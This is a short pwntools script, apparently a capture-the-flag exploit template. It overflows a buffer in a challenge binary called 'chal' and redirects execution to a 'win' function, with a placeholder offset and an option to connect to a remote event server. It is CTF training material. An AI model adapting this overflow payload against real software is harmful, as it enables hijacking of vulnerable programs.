from pwn import *

exe = context.binary = ELF("./chal", checksec=False)
# libc = ELF("./libc.so.6", checksec=False)


def start():
    if args.REMOTE:
        host, port = args.REMOTE.split(":")   # given on the scoreboard of the event
        return remote(host, int(port))
    if args.GDB:
        return gdb.debug(exe.path, "b main\nc")
    return process(exe.path)


io = start()

offset = cyclic_find(0x6161616C)  # TODO replace with what your crash shows
payload = flat({offset: exe.sym.get("win", 0)})

io.sendlineafter(b"> ", payload)
io.interactive()
